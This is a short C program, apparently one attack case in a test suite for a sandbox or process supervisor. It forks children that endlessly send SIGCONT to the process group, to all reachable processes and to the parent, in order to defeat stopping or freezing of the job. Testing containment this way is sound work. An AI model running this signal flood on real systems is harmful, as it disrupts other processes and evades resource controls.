#include "../attack.h"

static volatile uint64_t *counter;

int main(void) {
  take_job();
  counter = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, files[page], 0);
  pid_t pids[8];
  pid_t group = getpgrp();
  for (int i = 0; i < 2; ++i) {
    pids[i] = fork();
    if (pids[i] == 0)
      while (1) {
        kill(-group, SIGCONT);
        kill(-1, SIGCONT);
        syscall(SYS_tkill, getppid(), SIGCONT);
        ++counter[2];
      }
  }
  answer(0, "ready", "");
  while (1) {
    for (int i = 0; i < 2; ++i) kill(pids[i], SIGCONT);
    ++counter[2];
  }
}
